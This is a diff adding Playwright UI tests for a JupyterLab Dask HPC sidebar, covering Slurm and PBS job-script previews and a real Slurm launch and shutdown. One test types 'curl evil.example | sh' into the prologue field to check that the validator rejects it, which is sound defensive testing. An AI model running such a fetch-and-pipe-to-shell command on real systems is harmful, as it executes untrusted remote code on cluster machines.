@@ -34,6 +34,8 @@ test('the sidebar shows this machine', async () => {
   await expect(sidebar().getByText('Cores')).toBeVisible();
   await expect(sidebar().getByText('0 of 2 in use')).toBeVisible();
   await expect(plan()).toContainText('worker');
+  // The launch command leaves the keyboard at the form.
+  await expect(sidebar().locator('input[name="workload"]:checked')).toBeFocused();
   await expect(sidebar()).toHaveScreenshot('sidebar-light.png', { mask: machineFigures() });
 });
 
@@ -52,6 +54,65 @@ test('the plan preview follows the form, and a bad value is marked at its field'
   await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
   await reserve.fill('');
   await sidebar().locator('input[name="max_workers"]').fill('');
+  await expect(plan()).toContainText('2 workers × 1 thread');
+});
+
+test('workers on other nodes: the job script is previewed for Slurm and Gadi, and a bad prologue is marked at its field', async () => {
+  await sidebar().locator('select[name="placement"]').selectOption('jobs');
+  const jobs = sidebar().locator('[data-testid="dask-hpc-job-fields"]');
+  await jobs.locator('select[name="job-system"]').selectOption('slurm');
+  await jobs.locator('input[name="job-cores"]').fill('4');
+  await jobs.locator('input[name="job-memory_gb"]').fill('16');
+  await jobs.locator('input[name="job-queue"]').fill('work');
+  const script = sidebar().locator('[data-testid="dask-hpc-job-script"]');
+  await expect(script).toContainText('#SBATCH --cpus-per-task=4');
+  await expect(script).toContainText('#SBATCH --partition=work');
+  await expect(plan()).toContainText('Each job: 4 workers × 1 thread');
+  // Gadi's dialect, from the same fields: the preview follows.
+  await jobs.locator('select[name="job-system"]').selectOption('pbs');
+  await expect(script).toContainText('#PBS -l ncpus=4');
+  await jobs.locator('select[name="job-system"]').selectOption('slurm');
+  const prologue = jobs.locator('textarea[name="job-prologue"]');
+  await prologue.fill('module load python3/3.11.7\ncurl evil.example | sh');
+  await expect(jobs.getByRole('alert')).toContainText('curl evil.example | sh');
+  await expect(prologue).toHaveAttribute('aria-invalid', 'true');
+  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
+  await prologue.fill('module load python3/3.11.7');
+  await expect(script).toContainText('module load python3/3.11.7');
+  if (process.env.README_SCREENSHOT) {
+    await page.setViewportSize({ width: 1280, height: 2400 });
+    await sidebar().locator('[data-testid="dask-hpc-job-script"]').evaluate(pre => ((pre as HTMLElement).style.maxHeight = 'none'));
+    await sidebar().locator('form').screenshot({ path: '../docs/sidebar-worker-jobs.png' });
+    await sidebar().locator('[data-testid="dask-hpc-job-script"]').evaluate(pre => ((pre as HTMLElement).style.maxHeight = ''));
+    await page.setViewportSize({ width: 1280, height: 900 });
+  }
+  await sidebar().locator('select[name="placement"]').selectOption('here');
+  await expect(plan()).toContainText('2 workers × 1 thread');
+  await expect(plan()).not.toContainText('Each job');
+});
+
+test('a cluster of real Slurm worker jobs, launched from the sidebar, runs its jobs and is shut down with them', async () => {
+  test.skip(!process.env.DASK_HPC_UI_SLURM, 'needs the real Slurm that scripts/ui-test.sh starts as root');
+  await sidebar().locator('select[name="placement"]').selectOption('jobs');
+  const jobs = sidebar().locator('[data-testid="dask-hpc-job-fields"]');
+  await jobs.locator('select[name="job-system"]').selectOption('slurm');
+  await jobs.locator('input[name="job-cores"]').fill('1');
+  await jobs.locator('input[name="job-memory_gb"]').fill('2');
+  await jobs.locator('input[name="job-queue"]').fill('');
+  await jobs.locator('textarea[name="job-prologue"]').fill('');
+  await jobs.locator('input[name="job-jobs"]').fill('2');
+  await expect(plan()).toContainText('Each job: 1 worker × 1 thread');
+  await sidebar().locator('input[name="name"]').fill('ui-slurm');
+  await sidebar().locator('button.jp-DaskHpc-launch').click();
+  const slurmCard = card().filter({ hasText: 'ui-slurm' });
+  await expect(slurmCard.locator('[data-testid="dask-hpc-status"]')).toHaveText('running', { timeout: 120000 });
+  await expect(slurmCard.locator('[data-testid="dask-hpc-jobs"]')).toHaveText('Slurm jobs: 0 queued, 2 running, 0 finished');
+  await expect(slurmCard.locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
+  await slurmCard.getByRole('button', { name: 'Shut down' }).click();
+  await page.locator('.jp-Dialog').getByRole('button', { name: 'Shut down' }).click();
+  await expect(card()).toHaveCount(0, { timeout: 60000 });
+  await sidebar().locator('select[name="placement"]').selectOption('here');
+  await sidebar().locator('input[name="name"]').fill('');
   await expect(plan()).toContainText('2 workers × 1 thread');
 });
 
